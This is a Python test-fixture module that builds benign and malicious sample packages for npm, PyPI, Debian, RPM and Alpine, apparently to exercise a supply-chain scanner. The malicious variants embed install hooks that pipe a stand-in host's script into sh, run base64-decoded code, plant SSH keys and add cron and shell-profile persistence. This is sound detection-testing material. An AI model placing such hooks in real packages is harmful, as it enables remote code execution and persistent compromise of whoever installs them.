"""Generated sample packages for every ecosystem, benign and malicious (no network, no tools).

Used by the tests (scanning/tests/builders.py adds hostile archives), the demo data
(`make demo` gives each demo organization a few completed scans) and the benchmarks.
Every builder returns `(filename, bytes)`; `padding` adds that many bytes of
incompressible data files, to reach a target artifact size.

The malicious variants contain realistic install-time payloads (curl | sh, base64
decode-and-exec, SSH keys, cron, systemd) aimed at documentation addresses; they are
inert data here: Gatehouse never executes package code.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import random
import struct
import tarfile
import time
import zipfile

MTIME = 1_700_000_000
EVIL_URL = "http://203.0.113.7/payload.sh"
EVIL_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGgatehouseSampleKeyNotRealxxxxxxxxxxxxxxxx attacker@example"
STAGE2 = base64.b64encode(b"import os; os.system('id > /tmp/.gh-sample')").decode()


def _padding_files(padding: int, prefix: str, *, seed: int = 7) -> dict[str, bytes]:
    """Incompressible data split in ~1 MB files, plus a little source so the analyzers have work."""
    if padding <= 0:
        return {}
    rng = random.Random(seed)  # noqa: S311 - reproducible filler, not a secret
    files: dict[str, bytes] = {}
    remaining = padding
    index = 0
    while remaining > 0:
        size = min(remaining, 1024 * 1024)
        files[f"{prefix}data/blob_{index:04d}.bin"] = rng.randbytes(size)
        remaining -= size
        index += 1
    return files


def _tar(files: dict[str, bytes], *, modes: dict[str, int] | None = None, compression: str = "gz",
         end_blocks: bool = True) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        dirs: set[str] = set()
        for name, data in files.items():
            parts = name.split("/")[:-1]
            for i in range(1, len(parts) + 1):
                d = "/".join(parts[:i])
                if d and d not in dirs and not d.startswith("."):
                    dirs.add(d)
                    info = tarfile.TarInfo(d)
                    info.type = tarfile.DIRTYPE
                    info.mode = 0o755
                    info.mtime = MTIME
                    tar.addfile(info)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = (modes or {}).get(name, 0o644)
            info.mtime = MTIME
            tar.addfile(info, io.BytesIO(data))
    data = raw.getvalue()
    if not end_blocks:
        # Alpine segments are tar streams cut before their end-of-archive blocks.
        data = data.rstrip(b"\x00")
        data += b"\x00" * ((512 - len(data) % 512) % 512)
    if compression == "gz":
        return gzip.compress(data, compresslevel=6, mtime=MTIME)
    if compression == "xz":
        import lzma

        return lzma.compress(data)
    return data


# --- PyPI -----------------------------------------------------------------------------------

def _metadata(name: str, version: str, *, summary: str = "A sample package", requires: list[str] | None = None,
              license_text: str = "MIT", author: str = "Sample Author") -> str:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", f"Summary: {summary}",
             "Home-page: https://example.org/sample", f"Author: {author}", f"License: {license_text}"]
    lines += [f"Requires-Dist: {r}" for r in (requires or [])]
    return "\n".join(lines) + "\n\nLong description.\n"


def wheel(name: str = "sample-lib", version: str = "1.0.0", *, malicious: bool = False, padding: int = 0,
          declared_name: str | None = None, binary: bool = False) -> tuple[str, bytes]:
    dist = name.replace("-", "_")
    info = f"{dist}-{version}.dist-info"
    files: dict[str, bytes] = {
        f"{dist}/__init__.py": b'"""Sample library."""\n\n__version__ = "' + version.encode() + b'"\n\n\n'
                               b"def add(a, b):\n    return a + b\n",
        f"{info}/METADATA": _metadata(declared_name or name, version,
                                      requires=["requests==2.31.0", "idna>=3.4"]).encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: gatehouse-samples\nRoot-Is-Purelib: true\n"
                         b"Tag: py3-none-any\n",
    }
    if malicious:
        files[f"{dist}_init.pth"] = (f"import base64;exec(base64.b64decode('{STAGE2}'))\n").encode()
    if binary:
        files[f"{dist}/helper.bin"] = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"payload"
    files.update(_padding_files(padding, f"{dist}/"))
    record = "".join(f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()}"
                     f",{len(data)}\n" for path, data in files.items())
    files[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for path, data in files.items():
            zi = zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0))
            zi.external_attr = 0o644 << 16
            zi.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(zi, data)
    return f"{dist}-{version}-py3-none-any.whl", buffer.getvalue()


BENIGN_SETUP = """from setuptools import setup, find_packages

setup(
    name="%(name)s",
    version="%(version)s",
    packages=find_packages(),
    install_requires=["requests==2.31.0"],
)
"""

MALICIOUS_SETUP = """import base64
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -fsSL %(url)s | sh")
        exec(base64.b64decode("%(stage2)s"))
        with open(os.path.expanduser("~/.bashrc"), "a") as rc:
            rc.write("python3 -c 'import os' &\\n")


setup(
    name="%(name)s",
    version="%(version)s",
    packages=["%(pkg)s"],
    cmdclass={"install": PostInstall},
)
"""


def sdist(name: str = "sample-tool", version: str = "2.0.0", *, malicious: bool = False, padding: int = 0,
          binary: bool = False) -> tuple[str, bytes]:
    dist = name.replace("-", "_")
    top = f"{name}-{version}"
    values = {"name": name, "version": version, "pkg": dist, "url": EVIL_URL, "stage2": STAGE2}
    setup_py = ((MALICIOUS_SETUP if malicious else BENIGN_SETUP) % values).encode()
    files: dict[str, bytes] = {
        f"{top}/PKG-INFO": _metadata(name, version, requires=["requests==2.31.0"]).encode(),
        f"{top}/setup.py": setup_py,
        f"{top}/{dist}/__init__.py": b"def main():\n    return 0\n",
        f"{top}/README.md": b"# Sample\n",
    }
    if binary:
        files[f"{top}/{dist}/_speedups.so"] = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"native"
    files.update(_padding_files(padding, f"{top}/"))
    return f"{top}.tar.gz", _tar(files)


# --- npm ------------------------------------------------------------------------------------

def npm(name: str = "sample-widget", version: str = "3.1.4", *, malicious: bool = False,
        padding: int = 0) -> tuple[str, bytes]:
    manifest: dict[str, object] = {
        "name": name, "version": version, "description": "A sample widget", "license": "MIT",
        "author": "Sample Author <author@example.org>", "homepage": "https://example.org/widget",
        "repository": {"type": "git", "url": "https://example.org/widget.git"}, "main": "index.js",
        "dependencies": {"left-pad": "1.3.0", "lodash": "^4.17.21"},
        "scripts": {"test": "node test.js"},
    }
    files: dict[str, bytes] = {"package/index.js": b"module.exports = function widget(x) { return x * 2; };\n"}
    if malicious:
        manifest["scripts"] = {"preinstall": f"curl -s {EVIL_URL} | sh", "postinstall": "node install.js"}
        files["package/install.js"] = (
            "const https = require('https');\n"
            "const { execSync } = require('child_process');\n"
            f"eval(Buffer.from('{base64.b64encode(b'console.log(1)').decode()}', 'base64').toString());\n"
            "https.get('https://203.0.113.7/stage2.js', (res) => { let d = ''; res.on('data', c => d += c);"
            " res.on('end', () => execSync(d)); });\n"
            f"require('fs').appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', '{EVIL_KEY}\\n');\n"
        ).encode()
    files["package/package.json"] = json.dumps(manifest, indent=2).encode()
    files.update(_padding_files(padding, "package/"))
    safe = name.replace("@", "").replace("/", "-")
    return f"{safe}-{version}.tgz", _tar(files)


# --- Debian ---------------------------------------------------------------------------------

def _ar(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    out.write(b"!<arch>\n")
    for name, data in members:
        header = f"{name:<16}{MTIME:<12}{0:<6}{0:<6}{0o100644:<8o}{len(data):<10}`\n".encode()
        assert len(header) == 60
        out.write(header)
        out.write(data)
        if len(data) % 2:
            out.write(b"\n")
    return out.getvalue()


def deb(name: str = "sample-daemon", version: str = "1.2-3", *, malicious: bool = False, padding: int = 0,
        arch: str = "amd64") -> tuple[str, bytes]:
    control = (f"Package: {name}\nVersion: {version}\nArchitecture: {arch}\n"
               "Maintainer: Sample Maintainer <maint@example.org>\nInstalled-Size: 12\n"
               "Depends: libc6 (>= 2.34), libssl3 (= 3.0.11-1)\nSection: utils\nPriority: optional\n"
               "Homepage: https://example.org/daemon\nDescription: A sample daemon\n Longer description.\n")
    postinst = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    ldconfig\nfi\nexit 0\n"
    if malicious:
        postinst = (
            "#!/bin/sh\nset -e\n"
            f"mkdir -p /root/.ssh && echo '{EVIL_KEY}' >> /root/.ssh/authorized_keys\n"
            f"(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s {EVIL_URL} | sh') | crontab -\n"
            "cat > /etc/systemd/system/sample-updater.service <<EOF\n[Service]\nExecStart=/usr/bin/sample-updater\n"
            "EOF\n"
            f"wget -q -O /tmp/.u {EVIL_URL} && chmod +x /tmp/.u && /tmp/.u\n"
            "exit 0\n")
    control_tar = _tar({"./control": control.encode(), "./postinst": postinst.encode()},
                       modes={"./postinst": 0o755})
    data_files = {
        f"./usr/bin/{name}": b"#!/bin/sh\necho sample\n",
        f"./usr/share/doc/{name}/copyright": b"Format: https://www.debian.org/doc/packaging-manuals/"
                                             b"copyright-format/1.0/\nFiles: *\nLicense: GPL-2+\n",
    }
    data_files.update(_padding_files(padding, f"./usr/share/{name}/"))
    data_tar = _tar(data_files, compression="xz")
    return f"{name}_{version}_{arch}.deb", _ar([("debian-binary", b"2.0\n"), ("control.tar.gz", control_tar),
                                                ("data.tar.xz", data_tar)])


# --- RPM ------------------------------------------------------------------------------------

def _rpm_header(entries: list[tuple[int, int, object]]) -> bytes:
    """Serialize a header structure: entries are (tag, type, value)."""
    index = io.BytesIO()
    store = io.BytesIO()
    for tag, typ, value in entries:
        align = {3: 2, 4: 4, 5: 8}.get(typ, 1)
        while store.tell() % align:
            store.write(b"\x00")
        offset = store.tell()
        if typ == 6:  # STRING
            store.write(str(value).encode() + b"\x00")
            count = 1
        elif typ in (8, 9):  # STRING_ARRAY, I18NSTRING
            items = list(value)  # type: ignore[call-overload]
            for item in items:
                store.write(str(item).encode() + b"\x00")
            count = len(items)
        elif typ == 4:  # INT32
            items = list(value)  # type: ignore[call-overload]
            store.write(struct.pack(f">{len(items)}I", *items))
            count = len(items)
        elif typ == 7:  # BIN
            store.write(bytes(value))  # type: ignore[call-overload]
            count = len(bytes(value))  # type: ignore[call-overload]
        else:
            raise ValueError(typ)
        index.write(struct.pack(">IIII", tag, typ, offset, count))
    idx, data = index.getvalue(), store.getvalue()
    return b"\x8e\xad\xe8\x01" + b"\x00" * 4 + struct.pack(">II", len(entries), len(data)) + idx + data


def _cpio(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    ino = 1

    def entry(name: str, mode: int, data: bytes) -> None:
        nonlocal ino
        namebytes = name.encode() + b"\x00"
        header = b"070701" + b"".join(f"{v:08x}".encode() for v in (
            ino, mode, 0, 0, 1, MTIME, len(data), 0, 0, 0, 0, len(namebytes), 0))
        out.write(header + namebytes)
        out.write(b"\x00" * ((4 - (110 + len(namebytes)) % 4) % 4))
        out.write(data)
        out.write(b"\x00" * ((4 - len(data) % 4) % 4))
        ino += 1

    for name, data in files.items():
        entry(name, 0o100755 if "/bin/" in name else 0o100644, data)
    for name, target in (links or {}).items():
        entry(name, 0o120777, target.encode())
    entry("TRAILER!!!", 0, b"")
    return out.getvalue()


def rpm(name: str = "sample-agent", version: str = "4.5.6", release: str = "1", *, malicious: bool = False,
        padding: int = 0, arch: str = "x86_64") -> tuple[str, bytes]:
    files = {f"./usr/bin/{name}": b"#!/bin/sh\necho agent\n",
             f"./usr/share/doc/{name}/README": b"Sample agent.\n"}
    files.update(_padding_files(padding, f"./usr/share/{name}/"))
    payload = gzip.compress(_cpio(files, {f"./usr/lib/{name}/current": f"/usr/share/{name}"}), compresslevel=6,
                            mtime=MTIME)
    post = "/sbin/ldconfig\n"
    pre = ""
    if malicious:
        post = (f"curl -fsSL {EVIL_URL} | bash\n"
                "echo 'ZWNobyBoYWNrZWQ=' | base64 -d | sh\n"
                "echo 'export PATH=/tmp/.x:$PATH' >> /etc/profile.d/zz-sample.sh\n")
        pre = f"echo '{EVIL_KEY}' >> ~/.ssh/authorized_keys\n"
    entries: list[tuple[int, int, object]] = [
        (1000, 6, name), (1001, 6, version), (1002, 6, release), (1004, 9, ["A sample agent"]),
        (1005, 9, ["A sample agent for tests."]), (1014, 6, "ASL 2.0"), (1015, 6, "Sample Packager"),
        (1020, 6, "https://example.org/agent"), (1021, 6, "linux"), (1022, 6, arch),
        (1024, 6, post), (1086, 6, "/bin/sh"),
        (1048, 4, [0x08, 0x0C, 1 << 24]), (1049, 8, ["glibc", "openssl-libs", "rpmlib(CompressedFileNames)"]),
        (1050, 8, ["", "3.0.7", "3.0.4-1"]),
        (1124, 6, "cpio"), (1125, 6, "gzip"),
    ]
    if pre:
        entries += [(1023, 6, pre), (1085, 6, "/bin/sh")]
    entries.sort(key=lambda e: e[0])
    header = _rpm_header(entries)
    signature = _rpm_header([(1000, 4, [len(header) + len(payload)]),
                             (1004, 7, hashlib.md5(header + payload).digest())])  # noqa: S324 - the format's field
    signature += b"\x00" * ((8 - len(signature) % 8) % 8)
    lead = b"\xed\xab\xee\xdb" + bytes([3, 0]) + struct.pack(">HH", 0, 1)
    lead += f"{name}-{version}-{release}".encode()[:65].ljust(66, b"\x00") + struct.pack(">HH", 1, 5) + b"\x00" * 16
    assert len(lead) == 96
    return f"{name}-{version}-{release}.{arch}.rpm", lead + signature + header + payload


# --- Alpine ---------------------------------------------------------------------------------

def apk(name: str = "sample-cli", version: str = "0.9.1-r0", *, malicious: bool = False,
        padding: int = 0) -> tuple[str, bytes]:
    pkginfo = (f"# Generated by gatehouse samples\npkgname = {name}\npkgver = {version}\npkgdesc = A sample CLI\n"
               "url = https://example.org/cli\nbuilddate = 1700000000\npackager = Sample Packager <p@example.org>\n"
               "size = 1024\narch = x86_64\norigin = sample-cli\nmaintainer = Sample Maintainer <m@example.org>\n"
               "license = MIT\ndepend = musl>=1.2\ndepend = so:libc.musl-x86_64.so.1\ndepend = libcrypto3=3.1.4-r0\n")
    control = {".PKGINFO": pkginfo.encode()}
    if malicious:
        control[".post-install"] = (
            "#!/bin/sh\n"
            f"wget -qO- {EVIL_URL} | sh\n"
            "echo 'curl -s http://203.0.113.7/x | sh' >> /root/.profile\n"
            "echo '* * * * * /tmp/.x' > /etc/crontabs/root && crontab /etc/crontabs/root\n").encode()
    else:
        control[".post-install"] = b"#!/bin/sh\naddgroup -S sample 2>/dev/null\nexit 0\n"
    data = {f"usr/bin/{name}": b"#!/bin/sh\necho cli\n"}
    data.update(_padding_files(padding, f"usr/share/{name}/"))
    segment_control = _tar(control, modes={".post-install": 0o755}, end_blocks=False)
    segment_data = _tar(data)
    return f"{name}-{version}.apk", segment_control + segment_data


BUILDERS = {"pypi-wheel": wheel, "pypi-sdist": sdist, "npm": npm, "debian": deb, "rpm": rpm, "alpine": apk}
ECOSYSTEM_OF = {"pypi-wheel": "pypi", "pypi-sdist": "pypi", "npm": "npm", "debian": "debian", "rpm": "rpm",
                "alpine": "alpine"}


def write(directory: str, filename: str, data: bytes) -> str:
    path = os.path.join(directory, filename)
    with open(path, "wb") as handle:
        handle.write(data)
    return path


def timestamp() -> float:
    return time.time()
